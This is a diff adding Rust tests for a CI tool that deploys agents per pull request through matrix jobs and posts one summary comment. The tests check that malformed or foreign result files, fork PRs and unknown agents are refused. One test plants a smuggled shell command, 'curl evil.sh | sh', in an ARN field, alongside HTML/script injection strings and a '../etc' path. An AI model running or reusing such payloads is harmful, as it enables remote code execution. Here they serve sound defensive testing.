@@ -92,15 +92,19 @@ fn parse(body: &str) -> anyhow::Result<metadata::Verified> {
 
 // ---------------------------------------------------------------- rendered markdown (snapshots)
 
+fn deployed(runtime: &str, version: &str, action: &str) -> render::Deployed {
+    render::Deployed::from(&outcome(runtime.split("_pr_").next().unwrap(), runtime, version, action))
+}
+
+fn agent_result(agent: &str, outcome: Result<render::Deployed, String>) -> render::AgentResult {
+    render::AgentResult { agent: agent.into(), pr: 12, commit: COMMIT.into(), outcome }
+}
+
 #[test]
 fn pr_comment_snapshot() {
-    let ok = outcome("dad_joke_bot", "dad_joke_bot_pr_12", "3", "updated");
     let results = [
-        render::AgentResult { agent: "dad_joke_bot", outcome: Ok(&ok) },
-        render::AgentResult {
-            agent: "motivational_quotes_bot",
-            outcome: Err("upload failed: <img src=x> @everyone\n~~~\n```".into()),
-        },
+        agent_result("dad_joke_bot", Ok(deployed("dad_joke_bot_pr_12", "3", "updated"))),
+        agent_result("motivational_quotes_bot", Err("upload failed: <img src=x> @everyone\n~~~\n```".into())),
     ];
     let markdown = render::pr_comment(12, COMMIT, "us-east-1", &results);
     assert!(markdown.starts_with(render::PR_COMMENT_MARKER));
@@ -108,6 +112,20 @@ fn pr_comment_snapshot() {
     let error_part = &markdown[markdown.find("### `motivational_quotes_bot` failed").unwrap()..];
     assert!(error_part.contains("\n````text\n") && error_part.matches("\n````\n").count() == 1, "{error_part}");
     snapshot("pr_comment", &markdown);
+}
+
+/// Result files come from the matrix jobs: whatever they hold is data. An ARN that could close the
+/// quotes or the code block, or an unknown action, is not printed.
+#[test]
+fn pr_comment_prints_only_well_formed_values() {
+    let mut hostile = deployed("dad_joke_bot_pr_12", "3", "updated");
+    hostile.runtime_arn = Some("arn:x' ; curl evil.sh | sh ; echo '\n```".into());
+    hostile.action = "<b>pwned</b>".into();
+    hostile.status = "READY`<script>".into();
+    let markdown = render::pr_comment(12, COMMIT, "us-east-1", &[agent_result("dad_joke_bot", Ok(hostile))]);
+    assert!(!markdown.contains("curl") && !markdown.contains("pwned"), "{markdown}");
+    assert!(markdown.contains("--agent-runtime-arn '<runtime ARN>'"), "{markdown}");
+    assert!(markdown.contains("| `READY<script>` | - |"), "{markdown}");
 }
 
 #[test]
@@ -364,6 +382,8 @@ fn wrong_event_payloads_are_refused_with_the_file_named() {
     let args = gh::PrDeployArgs {
         event: event_args("push_main_squash.json", None),
         changed_files: None,
+        agent: None,
+        result: None,
         force: false,
         package_dir: None,
     };
@@ -373,6 +393,8 @@ fn wrong_event_payloads_are_refused_with_the_file_named() {
     let args = gh::PrDeployArgs {
         event: event_args("pr_closed_unmerged.json", None),
         changed_files: None,
+        agent: None,
+        result: None,
         force: false,
         package_dir: None,
     };
@@ -397,6 +419,8 @@ fn pr_without_agent_changes_deploys_nothing() {
     let args = gh::PrDeployArgs {
         event: event_args("pr_opened.json", Some(out.clone())),
         changed_files: Some(changed),
+        agent: None,
+        result: None,
         force: false,
         package_dir: None,
     };
@@ -474,6 +498,8 @@ fn fork_pull_request_is_packaged_not_deployed() {
     let args = gh::PrDeployArgs {
         event: event_args("pr_fork_opened.json", Some(out.clone())),
         changed_files: Some(changed),
+        agent: None,
+        result: None,
         force: false,
         package_dir: None,
     };
@@ -555,4 +581,174 @@ fn rollbacks_that_are_refused() {
         assert!(err.contains("promotion refused") && err.contains(expected), "{expected}: {err}");
         assert!(std::fs::read_to_string(&out).unwrap().contains("Promotion refused"));
     }
+}
+
+// ---------------------------------------------------------------- the deploy matrix and its one comment
+
+/// The head commit of tests/events/pr_opened.json (PR 12).
+const PR_HEAD: &str = "9b8a7c6d5e4f30211a2b3c4d5e6f7a8b9c0d1e2f";
+
+fn matrix_result(agent: &str, pr: u64, commit: &str, outcome: Result<render::Deployed, String>) -> String {
+    serde_json::to_string(&[render::AgentResult { agent: agent.into(), pr, commit: commit.into(), outcome }]).unwrap()
+}
+
+fn pr_comment_args(dir: &Path, agents: &str) -> gh::PrCommentArgs {
+    gh::PrCommentArgs {
+        event: event_args("pr_opened.json", Some(dir.join("comment.md"))),
+        agents: agents.into(),
+        results: dir.join("results"),
+    }
+}
+
+#[test]
+fn pr_plan_lists_the_matrix() {
+    let dir = tempfile::tempdir().unwrap();
+    let changed = dir.path().join("changed.txt");
+    std::fs::write(&changed, "prompts/dad_joke_bot.txt\nREADME.md\n").unwrap();
+    let args = gh::PrPlanArgs { event: event_args("pr_opened.json", None), changed_files: Some(changed.clone()) };
+    let report = gh::pr_plan(&ctx(None), &args).unwrap();
+    assert_eq!((report.result.as_str(), report.agents.as_slice()), ("planned", &["dad_joke_bot".to_owned()][..]));
+    std::fs::write(&changed, "docs/x.md\n").unwrap();
+    assert_eq!(gh::pr_plan(&ctx(None), &args).unwrap().result, "nothing");
+    let args = gh::PrPlanArgs { event: event_args("pr_closed_unmerged.json", None), changed_files: Some(changed) };
+    assert!(gh::pr_plan(&ctx(None), &args).unwrap_err().to_string().contains("not `closed`"));
+}
+
+/// One job's result is there, the other job never wrote one (cancelled, runner lost): the comment
+/// shows both, the missing one as failed.
+#[test]
+fn pr_comment_gathers_the_matrix_results() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir(dir.path().join("results")).unwrap();
+    let ok = matrix_result("dad_joke_bot", 12, PR_HEAD, Ok(deployed("dad_joke_bot_pr_12", "3", "updated")));
+    std::fs::write(dir.path().join("results/dad_joke_bot.json"), ok).unwrap();
+    std::fs::write(dir.path().join("results/notes.txt"), "not a result").unwrap();
+    let args = pr_comment_args(dir.path(), r#"["dad_joke_bot","motivational_quotes_bot"]"#);
+    let report = gh::pr_comment(&ctx(None), &args).unwrap();
+    assert_eq!(report.result, "failed");
+    let comment = std::fs::read_to_string(dir.path().join("comment.md")).unwrap();
+    assert_eq!(report.markdown.as_deref(), Some(comment.as_str()));
+    assert!(comment.contains("deployed 1 of 2 affected agents"), "{comment}");
+    assert!(comment.contains("deploy job did not finish"), "{comment}");
+    snapshot("pr_comment_gathered", &comment);
+
+    // No results folder at all (every job died before uploading): every agent is reported.
+    let empty = tempfile::tempdir().unwrap();
+    let report = gh::pr_comment(&ctx(None), &pr_comment_args(empty.path(), r#"["dad_joke_bot"]"#)).unwrap();
+    assert!(report.markdown.unwrap().contains("deployed 0 of 1 affected agents"));
+    // An empty plan: the comment says nothing changed.
+    let report = gh::pr_comment(&ctx(None), &pr_comment_args(empty.path(), "[]")).unwrap();
+    assert_eq!(report.result, "nothing");
+}
+
+#[test]
+fn pr_comment_refuses_results_that_do_not_belong() {
+    let good = || Ok(deployed("dad_joke_bot_pr_12", "3", "updated"));
+    type Files = Vec<(&'static str, String)>;
+    let cases: Vec<(&str, Files, &str, &str)> = vec![
+        (
+            "an agent the plan did not list",
+            vec![("m.json", matrix_result("motivational_quotes_bot", 12, PR_HEAD, good()))],
+            r#"["dad_joke_bot"]"#,
+            "which the plan did not list",
+        ),
+        (
+            "another pull request",
+            vec![("d.json", matrix_result("dad_joke_bot", 13, PR_HEAD, good()))],
+            r#"["dad_joke_bot"]"#,
+            "not of PR #12",
+        ),
+        (
+            "another commit",
+            vec![("d.json", matrix_result("dad_joke_bot", 12, COMMIT, good()))],
+            r#"["dad_joke_bot"]"#,
+            "not of PR #12",
+        ),
+        (
+            "two results for one agent",
+            vec![
+                ("a.json", matrix_result("dad_joke_bot", 12, PR_HEAD, good())),
+                ("b.json", matrix_result("dad_joke_bot", 12, PR_HEAD, Err("x".into()))),
+            ],
+            r#"["dad_joke_bot"]"#,
+            "second result",
+        ),
+        ("not JSON", vec![("d.json", "{".into())], r#"["dad_joke_bot"]"#, "not a result file"),
+        (
+            "an unknown field",
+            vec![(
+                "d.json",
+                matrix_result("dad_joke_bot", 12, PR_HEAD, good()).replace(r#""pr":12"#, r#""pr":12,"html":"<b>""#),
+            )],
+            r#"["dad_joke_bot"]"#,
+            "not a result file",
+        ),
+        ("oversized", vec![("d.json", " ".repeat(1024 * 1024 + 1))], r#"["dad_joke_bot"]"#, "bytes"),
+        ("agents not JSON", vec![], "dad_joke_bot", "JSON array of agent names"),
+        ("an unknown agent", vec![], r#"["dad_joke_bot","../etc"]"#, "no agent named `../etc`"),
+    ];
+    for (name, files, agents, expected) in cases {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir(dir.path().join("results")).unwrap();
+        for (file, text) in files {
+            std::fs::write(dir.path().join("results").join(file), text).unwrap();
+        }
+        let err = format!("{:#}", gh::pr_comment(&ctx(None), &pr_comment_args(dir.path(), agents)).unwrap_err());
+        assert!(err.contains(expected), "{name}: expected `{expected}` in {err}");
+        assert!(!dir.path().join("comment.md").exists(), "{name}: nothing is rendered");
+    }
+    // A fork is never deployed, so it has no results to gather.
+    let dir = tempfile::tempdir().unwrap();
+    let mut args = pr_comment_args(dir.path(), "[]");
+    args.event = event_args("pr_fork_opened.json", None);
+    assert!(gh::pr_comment(&ctx(None), &args).unwrap_err().to_string().contains("fork"));
+}
+
+/// The matrix job of a fork's pull request is refused before any AWS call.
+#[test]
+fn a_fork_is_never_deployed_one_agent_at_a_time() {
+    let mut ctx = ctx(None);
+    ctx.aws = AwsArgs { endpoint_url: Some("http://127.0.0.1:9".into()), ..Default::default() };
+    let dir = tempfile::tempdir().unwrap();
+    let args = gh::PrDeployArgs {
+        event: event_args("pr_fork_opened.json", None),
+        changed_files: None,
+        agent: Some("dad_joke_bot".into()),
+        result: Some(dir.path().join("result.json")),
+        force: false,
+        package_dir: None,
+    };
+    let err = format!("{:#}", xtask::cli::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
+    assert!(err.contains("comes from a fork") && err.contains("no deploy"), "{err}");
+    assert!(!dir.path().join("result.json").exists());
+}
+
+/// A matrix job whose deploy fails still writes its result, so the comment says why; the step fails.
+#[test]
+fn a_failed_matrix_job_still_writes_its_result() {
+    let dir = tempfile::tempdir().unwrap();
+    // The bundled stack, started and stopped by the step itself.
+    let ctx = ctx(Some(&dir.path().join("state")));
+    let result = dir.path().join("dad_joke_bot.json");
+    let args = gh::PrDeployArgs {
+        event: event_args("pr_opened.json", None),
+        changed_files: None,
+        agent: Some("dad_joke_bot".into()),
+        result: Some(result.clone()),
+        force: false,
+        // An empty folder: the zip is missing, so the deploy fails before it changes anything.
+        package_dir: Some(dir.path().join("zips")),
+    };
+    let err = format!("{:#}", xtask::cli::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
+    assert!(err.contains("deploy failed for dad_joke_bot"), "{err}");
+    let written: Vec<render::AgentResult> = serde_json::from_str(&std::fs::read_to_string(&result).unwrap()).unwrap();
+    assert_eq!((written.len(), written[0].agent.as_str(), written[0].pr), (1, "dad_joke_bot", 12));
+    let reason = written[0].outcome.as_ref().unwrap_err();
+    assert!(reason.contains("cannot read the zip"), "{reason}");
+    // An agent that does not exist is refused before anything is written.
+    let args = gh::PrDeployArgs { agent: Some("evil_bot".into()), ..args };
+    std::fs::remove_file(&result).unwrap();
+    let err = xtask::cli::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err().to_string();
+    assert!(err.contains("no agent named `evil_bot`"), "{err}");
+    assert!(!result.exists());
 }
